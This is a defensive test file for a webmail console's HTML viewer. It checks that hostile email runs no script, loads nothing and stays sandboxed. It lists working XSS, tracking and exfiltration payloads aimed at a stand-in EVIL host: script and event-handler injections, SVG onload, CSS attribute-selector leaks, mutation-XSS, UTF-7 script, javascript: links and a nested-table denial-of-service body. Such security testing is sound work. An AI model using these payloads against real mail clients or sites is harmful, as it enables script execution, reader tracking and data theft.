import { once } from 'node:events'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { HttpLab } from '../servers/http/client.ts'
import { ConsoleBrowser, consoleLab, hasChromium, openTab, tabNames } from './browser.ts'

/** The attacks of hostile mail. `EVIL` is a server that records who asks it; `LAB` is the console itself. */
const attacks: Readonly<Record<string, string>> = {
  script:
    '<script>top.hacked = 1; document.title = "hacked"; fetch("EVIL/fetch")</script><script src="EVIL/script.js"></script>',
  'event handlers':
    '<img src="EVIL/x.png" onerror="top.hacked=1"><body onload="top.hacked=1"><details open ontoggle="top.hacked=1">',
  'scripts in SVG':
    '<svg onload="top.hacked=1"><script>top.hacked=1</script><image href="EVIL/svg.png"/><use href="EVIL/use.svg#a"/></svg>',
  'an SVG in an image':
    '<img src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22top.hacked=1%22><image href=%22EVIL/nested.png%22/></svg>">',
  'the history of CSS':
    '<style>@import "EVIL/import.css"; @font-face { font-family: x; src: url(EVIL/font.woff) } body { font-family: x; background: url(EVIL/bg.png) } a[href^="a"] { background: url(EVIL/leak?a) } input[value^="s"] { list-style: url(EVIL/leak?s) }</style><a href="a">x</a><input value="secret">',
  'links to resources':
    '<link rel="stylesheet" href="EVIL/a.css"><link rel="preload" as="image" href="EVIL/p.png"><link rel="prefetch" href="EVIL/pf"><link rel="dns-prefetch" href="EVIL"><link rel="preconnect" href="EVIL"><link rel="icon" href="EVIL/i.ico">',
  'a form that sends itself':
    '<form id="f" action="EVIL/form" method="post"><input name="a" value="b"><button autofocus>Go</button></form><script>f.submit()</script>',
  'a refresh': '<meta http-equiv="refresh" content="0; url=EVIL/refresh">',
  'a refresh to a script': '<meta http-equiv="refresh" content="0; url=javascript:top.hacked=1">',
  'a base': '<base href="EVIL/base/"><img src="relative.png"><a href="relative">x</a>',
  frames:
    '<iframe src="EVIL/frame"></iframe><iframe srcdoc="<script>top.hacked=1</script><img src=EVIL/srcdoc.png>"></iframe><object data="EVIL/object"></object><embed src="EVIL/embed">',
  'the console in a frame': '<iframe src="LAB/mail"></iframe><iframe src="LAB/api/v1/messages"></iframe>',
  media:
    '<video src="EVIL/v.mp4" poster="EVIL/poster.png" autoplay></video><audio src="EVIL/a.mp3" autoplay></audio><picture><source srcset="EVIL/s.png"><img srcset="EVIL/1x.png 1x"></picture>',
  'old attributes':
    '<table background="EVIL/table.png"><tr><td background="EVIL/td.png">x</td></tr></table><body background="EVIL/body.png"><input type="image" src="EVIL/input.png"><bgsound src="EVIL/s.wav">',
  'a policy of its own':
    '<meta http-equiv="Content-Security-Policy" content="default-src *; script-src * \'unsafe-inline\'"><script>top.hacked=1</script><img src="EVIL/policy.png">',
  'comments for Internet Explorer':
    '<!--[if true]><script>top.hacked=1</script><![endif]--><!--><img src="EVIL/comment.png" onerror="top.hacked=1">-->',
  'text that is no text':
    '<noscript><p title="</noscript><img src=EVIL/mutation.png onerror=top.hacked=1>"></noscript><xmp><p title="</xmp><img src=EVIL/xmp.png onerror=top.hacked=1>">',
  'a cid that leaves':
    '<img src="cid:../../../status"><img src="cid:EVIL/cid.png"><img src="cid:%22 onerror=top.hacked=1 x=%22">',
  'an end of the document': '</body></html></iframe><script>top.hacked=1</script>',
}

describe.skipIf(!hasChromium)('hostile mail', () => {
  let http: HttpLab
  let evil: Server
  const asked: string[] = []
  /** Connections without a request tell a server as well that somebody reads the message. */
  let connections = 0
  beforeAll(async () => {
    evil = createServer((request, response) => {
      asked.push(request.url ?? '')
      response.end()
    }).listen(0, '127.0.0.1')
    evil.on('connection', () => connections++)
    await once(evil, 'listening')
    http = await consoleLab()
  })
  afterAll(async () => {
    await http?.[Symbol.asyncDispose]()
    evil?.close()
  })
  const browser = ConsoleBrowser.ofTests()

  const url = (): string => `http://localhost:${(evil.address() as AddressInfo).port}`

  /** Shows a message in the console, and returns the page once its frame has loaded. */
  async function show(subject: string, raw: string) {
    await http.lab.deliver(raw, { to: 'alice' })
    const { items } = (await http.request(`messages?query=subject:"${encodeURIComponent(subject)}"`)).body
    const page = await browser.open(http.base, `/mail/${items[0].id}?tab=html`)
    const frame = page.locator('.frame-box iframe')
    await frame.waitFor()
    await expect.poll(() => page.frames().some((one) => one.url().includes('/html'))).toBe(true)
    const content = page.frames().find((one) => one.url().includes('/html'))
    await content?.waitForLoadState('load')
    return { page, frame: content }
  }

  const mail = (subject: string, html: string, type = 'text/html; charset=utf-8'): string =>
    [
      `Subject: ${subject}`,
      'From: Evil <evil@app.test>',
      'To: alice@lab.test',
      `Content-Type: ${type}`,
      '',
      html,
      '',
    ].join('\r\n')

  it.each(Object.keys(attacks))('with %s runs nothing, loads nothing, and stays in its frame', async (name) => {
    const html = (attacks[name] as string).replaceAll('EVIL', url()).replaceAll('LAB', http.base)
    const { page, frame } = await show(name, mail(name, `<p id="shown">Shown</p>${html}<p>End</p>`))
    // The frame has no scripts, so that nothing can run in it, not even for a test.
    expect(await page.evaluate('window.hacked')).toBeUndefined()
    expect(await page.title()).toContain('Sealpost')
    expect(new URL(page.url()).origin).toBe(http.base)
    expect(frame?.url().startsWith(http.base)).toBe(true)
    expect([asked, connections]).toEqual([[], 0])
    await page.context().close()
  })

  it('in the text, the headers and the names of files is text', async () => {
    const html = '<img src=x onerror="window.hacked=1">'
    const raw = [
      `Subject: ${html}`,
      `From: "${html}" <evil@app.test>`,
      'To: alice@lab.test',
      `X-Evil: ${html}`,
      'Content-Type: multipart/mixed; boundary=b',
      '',
      '--b',
      'Content-Type: text/plain',
      '',
      `${html} javascript:alert(1) http://app.test/"onmouseover="window.hacked=1`,
      '--b',
      `Content-Type: image/svg+xml; name="${html.replaceAll('"', '')}.svg"`,
      'Content-Disposition: attachment',
      '',
      '<svg xmlns="http://www.w3.org/2000/svg" onload="window.hacked=1"/>',
      '--b--',
      '',
    ].join('\r\n')
    await http.lab.deliver(raw, { to: 'alice' })
    const { id } = (await http.request('messages?limit=1')).body.items[0]
    await using page = await browser.open(http.base, `/mail/${id}`)
    await page.getByRole('heading', { level: 2, name: html }).waitFor()
    for (const name of await tabNames(page)) {
      await openTab(page, name)
      await page.locator('.tab-panel > *:not(.skeleton)').first().waitFor()
    }
    expect(await page.evaluate('window.hacked')).toBeUndefined()
    await expect.poll(() => page.locator('img[src="x"]').count()).toBe(0)
  })

  it('in UTF-7 is not decoded into tags', async () => {
    const { page } = await show(
      'seven',
      mail('seven', '+ADw-script+AD4-top.hacked=1+ADw-/script+AD4-', 'text/html; charset=utf-7'),
    )
    expect(await page.evaluate('window.hacked')).toBeUndefined()
    await page.context().close()
  })

  it('of ten megabytes of tables in each other leaves the console usable', async () => {
    const depth = 60_000
    const tables = '<table><tr><td>'.repeat(depth) + 'x'.repeat(10 * 1024 * 1024 - depth * 15)
    await http.lab.deliver(mail('tables', tables), { to: 'alice' })
    const { id } = (await http.request('messages?limit=1')).body.items[0]
    await using page = await browser.open(http.base, `/mail/${id}?tab=html`)
    await page.getByRole('button', { name: 'Show it' }).waitFor()
    await openTab(page, 'Headers')
    await page.getByText('evil@app.test').first().waitFor()
  })

  it('opens its links in a tab that does not know the console, and no script', async () => {
    const script = '<script>opener.top.hacked=1</script>'
    const scripts = ['javascript:top.hacked=1', `data:text/html,${script}`, `vbscript:${script}`]
    const { page } = await show(
      'link',
      mail(
        'link',
        `<a id="a" href="${url()}/clicked">Click</a>${scripts.map((href) => `<p><a class="script" href="${href}">x</a>`).join('')}`,
      ),
    )
    const content = page.frameLocator('.frame-box iframe')
    for (const link of await content.locator('.script').all()) await link.click()
    const [opened] = await Promise.all([
      page.context().waitForEvent('page', (one) => one.url().startsWith(url())),
      content.locator('#a').click(),
    ])
    await opened.waitForLoadState()
    expect(await opened.evaluate('[window.opener, document.referrer]')).toEqual([null, ''])
    expect(asked).toContain('/clicked')
    for (const tab of page.context().pages()) expect(tab.url()).not.toMatch(/^(?:data|javascript|vbscript):/)
    expect(await page.evaluate('window.hacked')).toBeUndefined()
    await page.context().close()
  })
})
